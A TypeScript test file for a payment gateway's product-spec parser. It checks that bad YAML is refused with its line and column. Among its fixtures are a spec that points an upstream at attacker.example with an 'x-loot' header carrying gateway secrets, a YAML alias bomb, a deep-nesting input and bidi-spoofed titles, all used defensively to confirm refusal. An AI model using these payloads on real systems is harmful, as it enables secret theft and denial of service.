import { expect, test } from 'vitest'
import { parseDocument } from 'yaml'
import { reserveHeaders } from '../../../kernel/net/reserved-headers.ts'
import type { ParseOptions } from '../../../kernel/products/reader.ts'
import { parseProducts as parse } from '../../../host/product-files/parse.ts'
import { formatProblem } from '../../../kernel/products/problem.ts'
import { DECLARED } from '../../support/declared.ts'

reserveHeaders([], ['PAYMENT-RESPONSE'])

const parseProducts = (text: string, options: ParseOptions) =>
  parse(text, { ...options, variables: DECLARED })

function problems(text: string, env: Record<string, string> = {}): string[] {
  return parseProducts(text, { file: 'products/x.yaml', env }).flatMap((product) =>
    product.ok ? [] : product.problems.map(formatProblem),
  )
}
function spec(text: string, env: Record<string, string> = {}) {
  const [product] = parseProducts(text, { file: null, env })
  if (!product?.ok) throw new Error(product?.problems.map(formatProblem).join('\n'))
  return product
}
const skill = (line: string): string =>
  `product_id: demo\nplugin: demo\nskills:\n  - { skill: demo.echo, route: POST /echo, ${line} }\n`

test.each([
  ['broken syntax', 'product_id: [demo\nplugin: x', /^products\/x\.yaml:2:1 Flow sequence/],
  ['an empty file', '\n', /is empty; a product spec is expected/],
  [
    'an unknown key',
    skill('prize: { credits: 1 }'),
    /x\.yaml:4:44 skills\[0\]\.prize is not a known key/,
  ],
  [
    'a misspelt key',
    'product_id: demo\nplugin: demo\nbasepath: /v1/x\n',
    /did you mean base_path\?/,
  ],
  [
    'a duplicate key',
    'product_id: demo\nproduct_id: x\nplugin: demo\n',
    /x\.yaml:2:1 Map keys must be unique/,
  ],
  [
    'a route that climbs out of its mount',
    skill('price: { credits: 1 }').replace('/echo', '/../echo'),
    /x\.yaml:4:32 skills\[0\]\.route must not hold the segments \. and \.\./,
  ],
  [
    'a reference to a secret of the gateway',
    'product_id: x\nbase_path: /v1/x\nupstream:\n  url: http://a.example\n  headers: { K: "${X402_SIGNER_KEY}" }\n',
    /x\.yaml:5:17 upstream\.headers\.K X402_SIGNER_KEY is a secret of the gateway itself/,
  ],
  [
    'a receipt that an upstream would write',
    'product_id: w\nmetered: false\nupstream:\n  url: http://a.example\n  pass_headers: [Set-Cookie, Payment-Response]\n',
    /x\.yaml:5:30 upstream\.pass_headers\[1\] names payment-response, which is the gateway's own/,
  ],
  [
    'a connection header of an upstream',
    'product_id: w\nmetered: false\nupstream:\n  url: http://a.example\n  pass_headers:\n    - Transfer-Encoding\n',
    /x\.yaml:6:7 upstream\.pass_headers\[0\] names transfer-encoding/,
  ],
  [
    'a withheld header named twice',
    'product_id: w\nmetered: false\nupstream:\n  url: http://a.example\n  pass_headers: [Set-Cookie, set-cookie]\n',
    /upstream\.pass_headers\[1\] names set-cookie again/,
  ],
  [
    'half of a character in the query of an upstream',
    'product_id: w\nmetered: false\nupstream:\n  url: http://a.example\n  query: { k: "\\uD800" }\n',
    /x\.yaml:5:15 upstream\.query\.k holds half of a surrogate pair/,
  ],
  [
    'a query in the address of an upstream',
    'product_id: w\nmetered: false\nupstream: { url: "http://a.example/?k=1" }\n',
    /upstream\.url must end with the path: a query stands in `query`/,
  ],
  [
    'a price that is no number',
    skill('price: { credits: ten }'),
    /x\.yaml:4:62 skills\[0\]\.price\.credits must be number \(got "ten"\)/,
  ],
  [
    'a price in dollars',
    skill('price: { usd: 0.01 }'),
    /price\.usd is not a known key; a price is in `credits`, and 1 credit is USD 0\.01/,
  ],
  [
    'a price in misspelt atomic units',
    skill('price: { usdc: "5" }'),
    /price\.usdc is not a known key; did you mean usdc_atomic\?/,
  ],
  [
    'a negative price',
    skill('price: { credits: -1 }'),
    /skills\[0\]\.price\.credits must be > 0 \(got -1\)/,
  ],
  [
    'a price below one atomic unit',
    skill('price: { credits: 0.00001 }'),
    /whole number of atomic units/,
  ],
  [
    'prices that disagree',
    skill('price: { credits: 1, usdc_atomic: 5 }'),
    /price\.usdc_atomic must be 10000, which is `credits` at 10000 atomic/,
  ],
  [
    'a metered skill without a price',
    skill('title: Echo'),
    /x\.yaml:4:5 skills\[0\] is metered and has no price/,
  ],
  ['a free price', skill('price: { usdc_atomic: "0" }'), /a free skill says `metered: false`/],
  [
    'a missing variable',
    'product_id: w\nupstream: { url: "${PRODUCT_NO_SUCH}" }\nmetered: false\n',
    /x\.yaml:2:18 upstream\.url the environment variable PRODUCT_NO_SUCH is not set/,
  ],
  [
    'a reference where everybody reads',
    'product_id: w\nplugin: demo\ntitle: "${HOME}"\n',
    /title environment references are resolved under upstream and config only/,
  ],
  ['an alias', 'product_id: &a w\nplugin: *a\n', /x\.yaml:2:9 aliases .* not allowed/],
  [
    'a bad route',
    skill('metered: false').replace('POST /echo', 'SEND /echo'),
    /must be GET, POST, PUT, PATCH, DELETE or ANY and a path/,
  ],
  [
    'the same route twice',
    skill('metered: false') + '  - { skill: demo.two, route: POST /echo, metered: false }\n',
    /POST \/echo is taken by skills\[0\]/,
  ],
  [
    'plugin and upstream',
    'product_id: w\nplugin: demo\nupstream: { url: http://a.example }\nmetered: false\n',
    /upstream stands beside `plugin`/,
  ],
  ['neither', 'product_id: w\n', /needs `plugin`.* or `upstream`/],
  [
    'a free wildcard beside paid paths',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 } }\n  - { route: "GET /*", metered: false }\n',
    /free wildcard beside priced skills/,
  ],
  [
    'a metered upstream that sells nothing',
    'product_id: w\nupstream: { url: http://a.example }\n',
    /lists every path it sells/,
  ],
  [
    'a user name in the URL',
    'product_id: w\nupstream: { url: "http://u:p@a.example" }\nmetered: false\n',
    /must hold no user name/,
  ],
  [
    'an input that is no object',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: { type: string } }\n',
    /`type: object` at the root/,
  ],
  [
    'an input of a tool that there is not',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, tool: w.a, tool_inputs: { w.b: { type: object } } }\n',
    /tool_inputs\.w\.b is not a tool of this skill/,
  ],
  [
    'an input of a tool that is no object',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, tool: w.a, tool_inputs: { w.a: { type: string } } }\n',
    /`type: object` at the root/,
  ],
  [
    'a type that there is not',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: { type: object, properties: { city: { type: strin } } } }\n',
    /x\.yaml:4:97 skills\[0\]\.input\.properties\.city\.type must be one of string, .* \(got "strin"\)/,
  ],
  [
    'a type within a list of a schema',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, output: { anyOf: [{ type: text }] } }\n',
    /skills\[0\]\.output\.anyOf\[0\]\.type must be one of/,
  ],
  [
    'a reference of a schema to nowhere',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: { type: object, properties: { city: { $ref: "#/$defs/x" } } } }\n',
    /skills\[0\]\.input\.properties\.city\.\$ref must lead to a part of this schema/,
  ],
  [
    'a reference of a schema to elsewhere',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: { type: object, properties: { city: { $ref: "https://a.example/x.json" } } } }\n',
    /city\.\$ref must lead to a part of this schema, such as #\/\$defs\/city/,
  ],
  [
    'a pattern of a schema that is none',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: { type: object, properties: { city: { pattern: "(" } } } }\n',
    /city\.pattern must be a regular expression \(.+\)/,
  ],
  [
    'a limit of all skills that no timer can keep',
    'product_id: w\nplugin: demo\nlimits: { timeout: 720h }\n',
    /x\.yaml:3:20 limits\.timeout must be from 1ms to 240s \(got "720h"\)/,
  ],
  [
    'a body of all skills that is too large',
    'product_id: w\nplugin: demo\nlimits: { body: 2GiB }\n',
    /limits\.body must be at most 1GiB/,
  ],
  [
    'a duration without its unit',
    'product_id: w\nplugin: demo\nlimits: { timeout: 10 }\n',
    /limits\.timeout must be a duration such as 500ms, 10s or 2m \(got 10\)/,
  ],
  [
    'a header whose name has a space',
    'product_id: w\nmetered: false\nupstream: { url: http://a.example, headers: { X A: b } }\n',
    /upstream\.headers\.X A is not the name of a header/,
  ],
  [
    'a price that is a bare number',
    skill('price: 1'),
    /price must be an object such as \{ credits: 1 \}; 1 credit is USD 0\.01 \(got 1\)/,
  ],
  [
    'an upstream that is a bare URL',
    'product_id: w\nmetered: false\nupstream: http://a.example\n',
    /x\.yaml:3:11 upstream must be an object such as \{ url: /,
  ],
  [
    'a colon in a text without quotes',
    'product_id: w\ndescription: Of a city: all\nplugin: demo\n',
    /^products\/x\.yaml:2:14 .* a text with a colon in it has no quotes$/,
  ],
  [
    'a line that is indented too deep',
    'product_id: w\nskills:\n  - skill: demo.echo\n     route: POST /echo\n',
    /^products\/x\.yaml:3:12 a line below it is indented deeper than this one, [^\n]*$/,
  ],
  [
    'a variable as another tool writes it',
    'product_id: w\nupstream: { url: {{PRODUCT_URL}} }\n',
    /a variable is written \$\{NAME\}/,
  ],
  [
    'a file of UTF-16',
    Buffer.from('product_id: w\n', 'utf16le').toString(),
    /^products\/x\.yaml is not UTF-8/,
  ],
  [
    'a required member that is no list',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: { type: object, required: city } }\n',
    /x\.yaml:4:79 skills\[0\]\.input\.required must be array \(got "city"\)/,
  ],
  [
    'a limit of a schema that is a text',
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, output: { type: object, properties: { a: { maxLength: "5" } } } }\n',
    /output\.properties\.a\.maxLength must be integer \(got "5"\)/,
  ],
  ['a tag', 'product_id: !!js/function w\nplugin: demo\n', /Unresolved tag/],
])('%s is refused with its place', (_, text, expected) => {
  expect(problems(text).join('\n')).toMatch(expected)
})

test('all problems of a file come at once, and other documents stay good', () => {
  const text = `${skill('price: { credits: 1 }')}---
product_id: Two
plugin: demo
metered: maybe
skills:
  - { skill: demo.echo, route: POST /echo, limits: { timeout: soon } }
`
  expect(problems(text)).toEqual([
    'products/x.yaml:6:13 product_id must be lower-case letters, digits and dashes, a letter first (at most 40) (got "Two")',
    'products/x.yaml:8:10 metered must be boolean (got "maybe")',
    'products/x.yaml:10:63 skills[0].limits.timeout must be a duration such as 500ms, 10s or 2m (got "soon")',
  ])
  const [first] = parseProducts(text, { file: 'x', env: {} })
  expect(first?.ok).toBe(true)
})

test('a parameter as Express writes it is sold with a warning', () => {
  const { warnings } = spec(skill('price: { credits: 1 }').replace('/echo', '/echo/:city'))
  expect(warnings.map(formatProblem)).toEqual([
    'line 4:32 skills[0].route takes :city as it stands; a part that callers fill in is {city}',
  ])
})

test('a list sent for a product is told as that', () => {
  const [sent] = parseProducts('- title: w\n', { file: null, env: {}, productId: 'w' })
  expect(sent).toMatchObject({ ok: false, problems: [{ message: 'must be object' }] })
})

test('a schema may refer to its own parts, by pointer, anchor and identifier', () => {
  const input = (text: string) =>
    `product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: POST /a, price: { credits: 1 }, input: ${text} }\n`
  for (const text of [
    '{ type: object, properties: { a: { $ref: "#/$defs/x~1%C3%BC" } }, $defs: { x/ü: { type: [string, "null"] } } }',
    '{ type: object, properties: { a: { $ref: "#x" } }, $defs: { x: { $anchor: x, type: string } } }',
    '{ type: object, properties: { a: { $ref: "#" } } }',
    '{ $id: "https://a.example/s", type: object, properties: { a: { $ref: "https://a.example/s#/$defs/x" } }, $defs: { x: true } }',
    '{ type: object, properties: { type: { const: strin }, $ref: { type: string, default: { type: strin } } } }',
  ])
    expect(problems(input(text))).toEqual([])
})

test('hostile texts end as problems, not as work', () => {
  const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefgh'
    .split('')
    .map((name, i) => `${name}: &${name} [${Array(9).fill(`*${'abcdefg'[i]}`).join(',')}]`)
    .join('\n')}\n`
  expect(problems(bomb)[0]).toMatch(/aliases/)
  expect(problems('['.repeat(20_000))).toEqual(['products/x.yaml:1:65 nests deeper than 64 levels'])
  expect(problems('{"a":'.repeat(20_000))[0]).toMatch(/deeper than 64/)
  expect(problems('- '.repeat(20_000))[0]).toMatch(/deeper than 64/)
  expect(problems('x'.repeat(600_000))).toEqual([
    'products/x.yaml is 600000 bytes long; at most 524288 are read',
  ])
})

const sent = (name: string): string => `product_id: w
upstream:
  url: https://attacker.example
  headers: { x-loot: "a \${${name}}" }
metered: false
`

test.each([
  'ADMIN_TOKEN',
  'SERVICE_TOKEN',
  'COINOP_MASTER_KEY',
  'DATABASE_URL',
  'X402_SIGNER_KEY',
  'X402_FACILITATOR_AUTH',
  'PROVIDER_A_SECRET_KEY',
  'PROVIDER_B_WEBHOOK_HASH',
  'ENRICHMENT_API_KEY',
])('a product cannot name %s, whatever PRODUCT_ENV lists', (name) => {
  const told = problems(sent(name), { [name]: 'loot', PRODUCT_ENV: name })
  expect(told).toHaveLength(1)
  expect(told[0]).toMatch(
    `products/x.yaml:4:22 upstream.headers.x-loot ${name} is a secret of the gateway itself, which no product may use; set what this product needs under a name of its own, such as PRODUCT_${name}`,
  )
})

test('a product names only variables that are open to products, and is told how to open one', () => {
  const env = { WEATHER_TOKEN: 'loot', PRODUCT_WEATHER_TOKEN: 'meant' }
  const told =
    'products/x.yaml:4:22 upstream.headers.x-loot the environment variable WEATHER_TOKEN is not open to products: add WEATHER_TOKEN to PRODUCT_ENV, or rename it PRODUCT_WEATHER_TOKEN (got "a ${WEATHER_TOKEN}")'
  expect(problems(sent('WEATHER_TOKEN'), env)).toEqual([told])
  expect(problems(sent('WEATHER_TOKEN:-none'), env)[0]).toMatch(/is not open to products/)
  const loot = (name: string, more = {}) =>
    spec(sent(name), { ...env, ...more }).spec.upstream?.headers['x-loot']
  expect(loot('PRODUCT_WEATHER_TOKEN')).toBe('a meant')
  expect(loot('WEATHER_TOKEN', { PRODUCT_ENV: 'OTHER, WEATHER_TOKEN' })).toBe('a loot')
  expect(loot('UTILS_UPSTREAM_KEY', { UTILS_UPSTREAM_KEY: 'shipped' })).toBe('a shipped')
})

test.each(['only_with', 'only_without'])('%s asks only for variables that are open', (key) => {
  const text = `product_id: w\n${key}: PROVIDER_A_SECRET_KEY\nplugin: demo\n`
  for (const env of [{}, { PROVIDER_A_SECRET_KEY: 'loot' }]) {
    const [product] = parseProducts(text, { file: null, env })
    expect(product).toMatchObject({ ok: false, problems: [{ line: 2, path: key }] })
    expect(product).not.toHaveProperty('isElsewhere')
  }
})

test('references are resolved in the spec and kept in the document', () => {
  const text = `product_id: weather
upstream:
  url: \${PRODUCT_WEATHER_URL}
  headers: { authorization: "Bearer \${TOKEN}", x-note: "$\${TOKEN} \${PRODUCT_NONE:-plain}" }
  timeout: 10s
skills:
  - { route: "GET /forecast/{city}", price: { credits: 0.5 }, limits: { body: 2MiB } }
  - { route: GET /health, metered: false }
`
  const product = spec(text, {
    PRODUCT_WEATHER_URL: 'https://w.example/api',
    TOKEN: 's3cret',
    PRODUCT_ENV: 'TOKEN',
  })
  expect(product.spec.upstream).toMatchObject({
    url: 'https://w.example/api',
    headers: { authorization: 'Bearer s3cret', 'x-note': '${TOKEN} plain' },
    timeoutMs: 10_000,
  })
  expect(
    product.spec.skills.map(({ id, amountAtomic, metered }) => [id, amountAtomic, metered]),
  ).toEqual([
    ['weather.get_forecast_city', 5000n, true],
    ['weather.get_health', 0n, false],
  ])
  expect(product.spec.skills[0]?.limits).toEqual({ bodyBytes: 2_097_152 })
  expect(JSON.stringify(product.document)).not.toContain('s3cret')
  expect(product.text).not.toContain('s3cret')
})

test('a resolved secret never appears in a problem', () => {
  const text = 'product_id: w\nupstream: { url: "${PRODUCT_SECRET}" }\nmetered: false\n'
  const [problem] = problems(text, { PRODUCT_SECRET: 'not a url s3cret' })
  expect(problem).toMatch(/must be an http or https URL \(got "\$\{PRODUCT_SECRET\}"\)/)
})

test('JSON is read like YAML, and layout does not change the hash', () => {
  const yaml = spec(skill('price: { credits: 1 }'))
  const json = spec(JSON.stringify(yaml.document, null, '\t'))
  expect(json.spec).toEqual(yaml.spec)
  expect(json.hash).toBe(yaml.hash)
  expect(spec(skill('price: { credits: 2 }')).hash).not.toBe(yaml.hash)
})

test('an unmetered upstream serves everything below its base; a metered one never does', () => {
  const everything = spec('product_id: w\nupstream: { url: http://a.example }\nmetered: false\n')
  expect(everything.spec.skills.map(({ id, route }) => [id, route])).toEqual([
    ['w.everything', { method: 'ANY', path: '/*' }],
  ])
  const paid = spec(
    'product_id: w\nupstream: { url: http://a.example }\nskills:\n  - { route: GET /a, price: { credits: 1 } }\n',
  )
  expect(paid.spec.skills.map(({ route }) => route?.path)).toEqual(['/a'])
})

const PER_ENVIRONMENT = [
  'product_id: demo\nonly_without: PRODUCT_THERE\nplugin: demo\n',
  'product_id: demo\nonly_with: PRODUCT_THERE\nupstream: { url: "${PRODUCT_THERE}" }\nmetered: false\n',
].join('---\n')

test.each([
  ['unset', {}, 'demo'],
  ['empty', { PRODUCT_THERE: '' }, 'demo'],
  ['set', { PRODUCT_THERE: 'http://there.example' }, 'proxy'],
] as const)('with its variable %s one of two documents counts', (_, env, pluginId) => {
  const [counting, ...more] = parseProducts(PER_ENVIRONMENT, { file: null, env }).filter(
    (product) => product.ok || !product.isElsewhere,
  )
  expect(more).toEqual([])
  expect(counting).toMatchObject({ ok: true, spec: { productId: 'demo', pluginId } })
})

test('a condition is checked before the references that it guards, and names its variable', () => {
  expect(problems(PER_ENVIRONMENT)).toEqual([
    'products/x.yaml:6:12 only_with is not met: the environment variable PRODUCT_THERE is not set (got "PRODUCT_THERE")',
  ])
})

test('a condition that names no variable is refused', () => {
  expect(problems('product_id: demo\nonly_with: A B\nplugin: demo\n')).toEqual([
    'products/x.yaml:2:12 only_with must be the name of an environment variable (got "A B")',
  ])
})

test('a place is named once', () => {
  const at = { file: null, line: 4, column: 12, pointer: '' }
  const message = 'base_path /v1/x of a is taken by b'
  expect(formatProblem({ ...at, path: 'base_path', message })).toBe(`line 4:12 ${message}`)
  expect(formatProblem({ ...at, path: 'skills', message: 'skill a.b of a is taken by b' })).toBe(
    'line 4:12 skill a.b of a is taken by b',
  )
  expect(formatProblem({ ...at, path: 'skills[0].route', message: 'must be text' })).toBe(
    'line 4:12 skills[0].route must be text',
  )
})

/** The longest list that `work` searched with `some`, as the YAML parser does for keys of its own. */
function longestSearched(work: () => unknown): number {
  const list: { some: unknown[]['some'] } = Array.prototype
  const { some } = list
  let longest = 0
  list.some = function counted(this: unknown[], ...given) {
    longest = Math.max(longest, this.length)
    return some.apply(this, given)
  }
  try {
    work()
  } finally {
    list.some = some
  }
  return longest
}

test('no key of a map is compared with every other one: thousands would hold the gateway up', () => {
  const keys = 3000
  const lines = Array.from({ length: keys }, (_, index) => `  k${index}: 1`)
  const text = `product_id: demo\nconfig:\n${lines.join('\n')}\n`
  expect(longestSearched(() => parseDocument(text))).toBe(keys - 1)
  expect(longestSearched(() => expect(problems(text)).toHaveLength(1))).toBeLessThan(100)
})

test('an example that does not fit the schemas of its skill is a remark', () => {
  const upstream = (example: string): string =>
    `product_id: w
upstream: { url: http://a.example }
skills:
  - route: POST /a
    price: { credits: 1 }
    input: { type: object, properties: { city: { type: string } }, required: [city] }
    output: { type: object, properties: { days: { type: array } } }
    example: ${example}
`
  const remarks = (example: string) => spec(upstream(example)).warnings.map(formatProblem)
  expect(remarks('{ input: { city: Oslo }, output: { days: [] } }')).toEqual([])
  expect(remarks('{ input: { city: 5 }, output: { days: 7 } }')).toEqual([
    'line 8:23 skills[0].example.input does not fit `input` of the skill: /city must be string',
    'line 8:44 skills[0].example.output does not fit `output` of the skill: /days must be array',
  ])
})

test('a wildcard is not cheaper than another path', () => {
  const remarks = (credits: number) =>
    spec(
      `product_id: w\nupstream: { url: https://w.example }\nskills:\n  - { route: GET /a, price: { credits: 2 } }\n  - { route: GET /b/*, price: { credits: ${credits} } }\n`,
    ).warnings.map(formatProblem)
  expect(remarks(2)).toEqual([])
  expect(remarks(1)).toEqual([
    expect.stringMatching(/^line 5:14 skills\[1\]\.route costs less than other skills/),
  ])
})

test('an upstream may be silent for no longer than a call lasts', () => {
  const remarks = (timeout: string) =>
    spec(
      `product_id: w\nupstream: { url: https://w.example, timeout: ${timeout} }\nskills:\n  - { route: GET /a, price: { credits: 1 } }\n`,
    ).warnings.map(formatProblem)
  expect(remarks('240s')).toEqual([])
  expect(remarks('2h')).toEqual([
    expect.stringContaining('upstream.timeout is longer than any call'),
  ])
})

test.each([
  ['lines that each nest in the one before', 'a: b: c\n'.repeat(30_000), 20],
  ['documents without end', '---\na: 1\n'.repeat(50_000), 1],
  ['references that nothing resolves', `upstream: { url: "${'${X}'.repeat(100_000)}" }\n`, 100],
  [
    'members that nobody knows',
    `upstream: { headers: { ${Array.from({ length: 20_000 }, (_, n) => `a${n}: "\${X${n}}"`).join(', ')} } }\n`,
    100,
  ],
])('%s cost no more than their length, and tell some of what is wrong', (_, text, told) => {
  expect(problems(text)).toHaveLength(told)
})

test('titles and descriptions lose what nobody sees, in schemas too, and keep marks of direction', () => {
  const hidden = '\u{E0049}\u{E0067}\u{E006E}'
  const { spec: read, warnings } = spec(`product_id: w
title: "Wea\u202Etxt.\u202Cther"
description: "\u200Fשלום\\e[2J\\nand more"
upstream: { url: "http://a.example" }
skills:
  - id: w.get
    title: Forecast
    route: GET /get
    description: "Of a city${hidden}"
    price: { credits: 1 }
    input:
      type: object
      title: "In\u2066put"
      properties: { city: { type: string, description: "A\\0 city", enum: ["\u202Ea"] } }
`)
  const [get] = read.skills
  const words = [read.title, read.description, get?.description, get?.input]
  expect(words).toEqual([
    'Weatxt.ther',
    '\u200Fשלום[2J\nand more',
    'Of a city',
    {
      type: 'object',
      title: 'Input',
      properties: { city: { type: 'string', description: 'A city', enum: ['\u202Ea'] } },
    },
  ])
  expect(warnings.map(({ path }) => path)).toEqual([
    'title',
    'description',
    'skills[0].description',
    'skills[0].input.title',
    'skills[0].input.properties.city.description',
  ])
})
